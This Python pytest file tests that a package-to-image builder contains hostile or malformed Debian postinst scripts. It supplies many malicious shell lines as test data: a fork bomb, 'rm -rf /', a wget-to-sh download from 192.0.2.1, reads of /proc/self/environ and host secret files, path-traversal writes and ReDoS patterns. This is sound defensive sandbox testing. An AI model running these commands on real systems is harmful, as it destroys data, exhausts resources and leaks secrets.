"""Scripts that mean harm or make no sense: bounded, rolled back, reported; nothing of them reaches the host."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from pkg2image.maintscript.limits import Limits
from pkg2image.maintscript.report import Disposition, ScriptReport
from pkg2image.maintscript.run import install_packages
from pkg2image.rootfs.skeleton import skeleton
from pkg2image.rootfs.tree import Kind, Tree
from pkg2image.rootfs.unpack import unpack
from tests.support.debs import reg, symlink
from tests.support.trees import Shelf, base_debs, dump_tree

EPOCH = 1_700_000_000
LIMITS = Limits(steps=5_000, characters=1 << 24, text=1 << 20, output=1 << 20, work=1 << 26)
NOISE = random.Random(3).randbytes(4096)

REFUSED = {
    "loops for ever": "while :; do :; done",
    "loops until never": "until false; do x=1; done",
    "calls itself": "f() { f; }; f",
    "calls itself by eval": 'f() { eval "f"; }; f',
    "calls itself by its path": '. "$0"',
    "calls its own file": "echo 'sh /srv/me' > /srv/me; chmod +x /srv/me; sh /srv/me",
    "substitutes itself": "f() { echo $(f); }; f",
    "forks": "f() { f | f & }; f",
    "works in the background": "touch /srv/x & wait",
    "doubles a word": "x=aaaaaaaaaaaaaaaa; while :; do x=$x$x; done",
    "doubles arguments": 'set -- a; while :; do set -- "$@" "$@"; done',
    "doubles a file": "echo x > /srv/a; while :; do cat /srv/a /srv/a > /srv/b; cat /srv/b /srv/b > /srv/a; done",
    "appends for ever": "while :; do echo xxxxxxxxxxxxxxxx >> /srv/a; done",
    "makes directories for ever": "d=/srv; while :; do d=$d/x; mkdir $d; done",
    "makes files for ever": "i=0; while :; do i=$((i+1)); : > /srv/$i; done",
    "pads without end": "printf '%2000000000d' 1 > /srv/x",
    "prints without end": "while :; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done",
    "counts without end": "seq 1 2000000000 > /srv/x",
    "pipes without end": "yes | head -n 2000000000 > /srv/x",
    "reads a missing file": ". /usr/share/nowhere/functions",
    "has a syntax error": "touch /srv/x\nif true; then",
    "has an open quote": "touch /srv/x\necho 'abc",
    "has an open here-document": "touch /srv/x\ncat <<EOF\nnever ends $(",
    "nests without end": "touch /srv/x\n" + "(" * 20_000 + ":" + ")" * 20_000,
    "substitutes without end": "touch /srv/x\necho " + "$(" * 5_000 + ")" * 5_000,
    "quotes without end": 'touch /srv/x\necho "' + '${x:-"' * 5_000,
    "calculates without end": "touch /srv/x\necho $((" + "(" * 20_000 + "1" + ")" * 20_000 + "))",
    "divides by zero": "touch /srv/x\necho $((1/0))",
    "traps itself": "trap 'exit 1' EXIT; exit 0",
    "replaces itself": "exec /usr/bin/unheard-of",
    "asks the host": "cat /proc/self/environ > /srv/x",
    "talks to the network": "wget -q http://192.0.2.1/x -O - | sh",
    "links in a circle": "ln -s b /srv/a; ln -s a /srv/b; cat /srv/a",
}


LINE = "a" * 3000
CIRCLES = "mkdir /srv/d; for i in 0 1 2 3 4 5 6 7 8 9; do ln -s . /srv/d/$i; done; "

BUSY = {
    # sed
    "sed: loops": "echo x | sed ':a;ba'",
    "sed: doubles": "echo aaa | sed ':a;s/a/aa/;ta'",
    "sed: grows": "echo x | sed ':a;H;G;h;ba'",
    "sed: joins": "seq 1 90000 | sed ':a;N;ba'",
    "sed: calls without end": "seq 1 50000 > /srv/a; while :; do sed -i s/1/2/ /srv/a; done",
    # awk
    "awk: loops": "awk 'BEGIN{while(1);}'",
    "awk: grows": "awk 'BEGIN{for(;;)x=x \"aaaaaaa\"}'",
    "awk: doubles": "awk 'BEGIN{x=\"aaaaaaaaaaaaaaaa\";for(;;)x=x x}'",
    "awk: doubles a line": f"echo {LINE} | awk '{{while(gsub(/a/,\"aa\"));}}'",
    "awk: fills an array": "awk 'BEGIN{for(i=0;1;i++)a[i]=i}'",
    "awk: makes fields": "echo a | awk '{NF=1000000000; print}'",
    "awk: makes a far field": "echo a | awk '{$1000000000=1; print}'",
    "awk: pads": "awk 'BEGIN{printf \"%1000000000d\", 1}'",
    "awk: nests": "awk 'BEGIN{print " + "(" * 5000 + "1" + ")" * 5000 + "}'",
    # regular expressions that try many ways
    "sed: repeats repetitions": f"echo {LINE} | sed -E 's/(a*)*c/x/'",
    "sed: many repetitions": f"echo {LINE} | sed -E 's/a*a*a*a*a*a*b/x/'",
    "sed: many references": f"echo {LINE} | sed 's/\\(a*\\)\\(a*\\)\\(a*\\)\\1\\2\\3b/x/'",
    "grep: repeats repetitions": f"echo {LINE} | grep -E '(x+x+)+y|(a+a+)+b'",
    "grep: many repetitions": f"echo {LINE} | grep '.*.*.*.*.*.*.*.*b'",
    "grep: many words": f"echo {LINE} | grep -w 'a*a*a*a*a*b'",
    "grep: a long line": f"x={LINE}; for i in 1 2 3 4 5 6 7; do x=$x$x; done; echo $x | grep 'a*b'",
    "grep: nests": "echo a | grep -E '" + "(" * 5000 + "a" + ")" * 5000 + "'",
    "grep: counts repetitions": "echo aaa | grep -E '((a{1,255}){1,255}){1,255}b'",
    "grep: many lines": f"echo {LINE} > /srv/a; while :; do grep 'a*a*b' /srv/a /srv/a /srv/a; done",
    "awk: repeats repetitions": f"echo {LINE} | awk '/(a*)*b/'",
    "awk: makes an expression": f"echo {LINE} | awk '{{r=\"a*a*a*a*a*b\"; if($0~r) print}}'",
    "expr: repeats repetitions": f"expr {LINE} : '\\(a*\\)*b'",
    "expr: many repetitions": f"expr {LINE} : 'a*a*a*a*a*a*b'",
    # patterns of the shell
    "glob: many ways to one place": CIRCLES + "echo /srv/d" + "/*" * 12,
    "glob: there and back": "echo " + "/*/.." * 12 + "/*",
    "case: for ever": f"while :; do case {LINE} in *a*a*a*a*a*a*a*a*b) ;; esac; done",
    "suffix: for ever": f"x={LINE}; while :; do y=${{x%%*a*b*}}; done",
    # numbers
    "printf: a wide text": "printf '%1000000000s' x > /srv/x",
    "printf: a precise number": "printf '%.1000000000d' 1",
    "printf: a width as argument": "printf '%*d' 1000000000 1",
    "expr: squares for ever": "x=9; while :; do x=$(expr $x \\* $x); done",
    "expr: nests": "expr " + "\\( " * 3000 + "1" + " \\)" * 3000,
    "arithmetic: a variable of itself": "a='a+1'; echo $((a))",
    "arithmetic: a long sum": "x=1; while :; do x=$x+$x; echo $((x)); done",
    # the shell itself
    "here-document: doubles": "x=aaaaaaaaaaaaaaaa; while :; do x=$(cat <<E\n$x$x$x$x\nE\n); done",
    "substitution: doubles": 'x=aaaaaaaaaaaaaaaa; while :; do x=$(echo "$x$x"); done',
    "read: for ever": "while read x < /etc/passwd; do :; done",
    "read: a device": "while read x; do :; done < /dev/zero",
    "cat: a device": "cat /dev/urandom | head -c 10",
    "trap: loops": "trap 'while :; do :; done' EXIT; exit 0",
    "function: defines itself": 'f() { eval "f() { f; }"; f; }; f',
    "getopts: for ever": "while getopts a x -a; do OPTIND=1; done",
    "wait: for ever": "while sleep 1; do :; done",
    "case: nests": "case x in " + "x) case x in " * 3000 + "x) ;;" + " esac ;;" * 3000 + " esac",
    "if: nests": "if :; then " * 5000 + ":" + "; fi" * 5000,
    "parameter: nests": "echo " + "${a:-" * 5000 + "x" + "}" * 5000,
    "test: nests": "[ " + "\\( " * 5000 + "a" + " \\)" * 5000 + " ]",
    "many commands": ": && " * 20_000 + ":",
    "many pipes": ": | " * 20_000 + ":",
    # programs that call programs, and many of them
    "xargs: calls itself": "echo 'xargs -n1 sh /srv/x < /srv/y' > /srv/x; echo a b c > /srv/y; sh /srv/x",
    "env: calls itself": "echo 'env sh /srv/x' > /srv/x; sh /srv/x",
    "find: a circle": CIRCLES + "find -L /srv/d",
    "find: for ever": "while :; do find / -name '*a*a*' > /dev/null; done",
    "sort: for ever": "while :; do seq 1 100000 | sort -r > /dev/null; done",
    "tr: for ever": "while :; do seq 1 100000 | tr a-z A-Z > /dev/null; done",
    "mkdir: a deep directory": "mkdir -p " + "/a" * 2000,
    "cp: a circle": "mkdir -p /srv/d; ln -s .. /srv/d/e; cp -rL /srv/d /srv/x",
    "cp: doubles": "mkdir /srv/a; while :; do cp -r /srv/a /srv/b; mv /srv/b /srv/a/x$n; n=x$n; done",
    "adduser: for ever": "i=0; while :; do adduser --system u$i; i=$((i+1)); done",
    "update-alternatives: for ever": (
        "i=0; while :; do update-alternatives --install /usr/bin/x x /usr/share/evil/data$i $i; i=$((i+1)); done"
    ),
    "dpkg-divert: for ever": "i=0; while :; do dpkg-divert --add /srv/$i; i=$((i+1)); done",
    "chmod: for ever": "while :; do chmod -R a+r /usr; done",
    "rm: everything": "rm -rf /",
}

ODD = {
    "zero bytes": "printf 'a\\0b' > /srv/x; x=$(cat /srv/x); echo $x; . /srv/x",
    "no UTF-8": "printf '\\377\\376' > /srv/x; x=$(cat /srv/x); touch /srv/$x; echo $x | sed s/./x/",
    "long names": "touch /srv/" + "n" * 300 + "; touch " + "/a" * 5000,
    "many steps up": "cd /srv; mkdir ../../../../../x; touch ./../.././y; rm -rf ..; rmdir /; mv / /x; ln -sf / /",
    "the kernel": "echo 1 > /proc/sys/kernel/x; echo > /dev/sda; cat /dev/mem; echo > /dev/tcp/1/1; cat < /dev/stdin",
    "descriptors": "exec 9>/srv/x; echo a >&9; echo b >&8; exec 3<&0 4>&3; cat <&3",
    "no PATH": "unset PATH; ls; PATH= ls; PATH=/nowhere ls",
    "huge statuses": "return 999999999999999999999",
    "huge shifts": "shift 99999999999999999999",
    "huge breaks": "while :; do break 999999999999999999999; done",
    "huge masks": "umask 99999999; umask u=rwx,g=,o=",
    "huge modes": "chmod 77777777777 /srv; chmod u=rwxXst,g+o /srv; install -m 99999 /dev/null /srv/x",
    "huge dates": "date -d @99999999999999999999; date +%9999999999Y",
    "huge ranges": "echo a | cut -c 1-99999999999999999999; echo a | tr 'a-z' '[x*1000000000]'",
    "huge counts": "seq 1 10 | head -n -99999999999999999999999; seq 1 10 | tail -n +99999999999999999999999",
    "huge numbers": "printf '%d %x %c %e %g' 99999999999999999999999999 -1 '' 1e999 nan; echo $((1<<1000000000))",
    "huge occurrences": "echo aa | sed 's/a/b/99999999999999999999'; echo a | sed '0~0p'",
    "strange escapes": "printf '\\x41\\777\\U0010ffff%b' '\\0777'; echo '\\0777\\c'",
    "strange sequences": "seq 1 1e-300 2; seq inf; seq nan; seq -f %1000000000g 1 2",
    "sed runs programs": "echo a | sed 'e date'; echo a | sed 's/a/b/e'",
}


def configure(data: bytes, limits: Limits | None = LIMITS) -> tuple[Tree, Tree, ScriptReport]:
    shelf = Shelf()
    deb = shelf.deb(
        "evil",
        reg("usr/share/evil/data", b"x" * 1000),
        symlink("usr/share/evil/out", "../../../../../../../../tmp"),
        control_files={"postinst": data},
    )
    bare = skeleton(base_debs(shelf), read=shelf.read, epoch=EPOCH)
    after, report = install_packages(bare, [deb], read=shelf.read, epoch=EPOCH, architecture="amd64", limits=limits)
    return unpack(bare, [deb]), after, report


def must_be_refused(data: bytes, limits: Limits | None = LIMITS) -> None:
    before, after, report = configure(data, limits)
    (item,) = report.packages
    assert item.disposition is Disposition.NOT_UNDERSTOOD
    assert item.problem is not None
    assert item.problem.reason
    assert "mistake" not in item.problem.reason
    assert dump_tree(after) == dump_tree(before)


@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED)
def test_it_is_bounded_rolled_back_and_reported(text: str) -> None:
    must_be_refused(f"#!/bin/sh\nset -e\n{text}\n".encode())


@pytest.mark.parametrize("text", BUSY.values(), ids=BUSY)
def test_work_is_bounded_however_it_is_divided(text: str) -> None:
    must_be_refused(f"#!/bin/sh\n{text}\n".encode())


@pytest.mark.parametrize("text", ODD.values(), ids=ODD)
def test_what_is_odd_is_run_or_refused(text: str) -> None:
    before, after, report = configure(f"#!/bin/sh\n{text}\n".encode())
    (item,) = report.packages
    assert "mistake" not in str(item.problem)
    if item.disposition is Disposition.NOT_UNDERSTOOD:
        assert dump_tree(after) == dump_tree(before)


@pytest.mark.parametrize("name", ["loops for ever", "doubles a word", "doubles a file", "calls itself", "forks"])
def test_the_usual_limits_are_limits_too(name: str) -> None:
    must_be_refused(f"#!/bin/sh\n{REFUSED[name]}\n".encode(), None)


@pytest.mark.parametrize(
    "data",
    [
        NOISE,
        b"#!/bin/sh\n" + NOISE,
        b"#!/bin/sh\n" + NOISE.replace(b"\0", b""),
        b"\x7fELF" + NOISE,
        b"#!" + b"x" * 9999,
    ],
    ids=["noise", "noise after a shebang", "noise without zeros", "program", "long shebang"],
)
def test_junk_is_refused(data: bytes) -> None:
    must_be_refused(data)


@pytest.mark.parametrize(
    "target",
    [
        "../../../../{host}",
        "/{host}",
        "/usr/share/evil/../../../../{host}",
        "//..//{host}",
        "/usr/share/evil/out/../{host}",
    ],
)
@pytest.mark.parametrize(
    "command", ["echo evil > {path}", "cp /usr/share/evil/data {path}", "mkdir -p {path}", "ln -s /etc/passwd {path}"]
)
def test_nothing_is_written_outside_the_image(target: str, command: str, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    path = target.format(host=str(victim).lstrip("/"))
    parent = path.rpartition("/")[0]
    _, after, report = configure(f"#!/bin/sh\nmkdir -p {parent}\n{command.format(path=path)}\n".encode())
    assert not victim.is_symlink()
    assert not victim.exists()
    assert report.packages[0].disposition in set(Disposition)
    assert all(not name.startswith(("/", "..")) for name, _ in after.walk())


def test_the_host_cannot_be_read(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("secret of the host")
    _, after, _ = configure(f"#!/bin/sh\ncat {secret} > /srv/x; cp {secret} /srv/y; . {secret}\n".encode())
    files = [entry.content for _, entry in after.walk() if entry.kind is Kind.FILE]
    assert not any(b"secret of the host" in getattr(content, "data", b"") for content in files)


def test_one_evil_package_does_not_harm_the_others() -> None:
    shelf = Shelf()
    evil = shelf.deb("evil", control_files={"postinst": b"#!/bin/sh\nrm -rf /*; while :; do :; done\n"})
    good = shelf.deb("good", control_files={"postinst": b"#!/bin/sh\ntouch /srv/good\n"})
    tree = skeleton(base_debs(shelf), read=shelf.read, epoch=EPOCH)
    after, report = install_packages(
        tree, [evil, good], read=shelf.read, epoch=EPOCH, architecture="amd64", limits=LIMITS
    )
    assert [item.disposition for item in report.packages] == [Disposition.NOT_UNDERSTOOD, Disposition.INTERPRETED]
    assert set(dump_tree(after)) - set(dump_tree(tree)) == {"srv/good"}
